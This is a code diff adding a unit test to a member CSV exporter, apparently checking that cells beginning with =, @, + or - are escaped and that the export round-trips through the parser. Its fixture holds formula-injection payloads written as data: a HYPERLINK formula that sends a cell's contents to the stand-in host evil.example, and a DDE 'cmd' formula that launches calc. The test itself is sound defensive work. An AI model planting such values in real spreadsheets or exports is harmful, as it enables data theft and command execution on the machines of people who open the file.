@@ -53,4 +53,26 @@ describe('member CSV', () => {
     expect(csv.startsWith('\uFEFF姓,名,メールアドレス,役職,部署,電話番号,入社日,備考\r\n')).toBe(true);
     expect(csv).toContain('佐藤,花子,,課長,,,2026-04-01,"a,b"');
   });
+
+  it('exports no cell that a spreadsheet would run as a formula, and imports its own export back unchanged', () => {
+    const member = {
+      lastName: '=HYPERLINK("https://evil.example/?d="&A2,"詳細")',
+      firstName: '@SUM(1+1)',
+      email: 'x@example.com',
+      position: null,
+      department: '-営業',
+      phoneNumber: '+81-90-1234-5678',
+      hireDate: '2026-04-01',
+      notes: '1行目\n=cmd|\' /C calc\'!A0',
+    };
+    const csv = memberCsv([member]);
+    const cells = parseMemberCsv(csv.slice(1))[0].record;
+    const raw = csv.slice(1).split('\r\n')[1];
+    expect(raw.startsWith(`"'=HYPERLINK(`)).toBe(true);
+    expect(raw).toContain(",'@SUM(1+1),");
+    expect(raw).toContain(",'-営業,'+81-90-1234-5678,");
+    // The line break is inside a quoted cell: the next line is no cell of its own.
+    expect(raw).toContain('"1行目\n=cmd');
+    expect(cells).toEqual({ ...member, position: '' });
+  });
 });
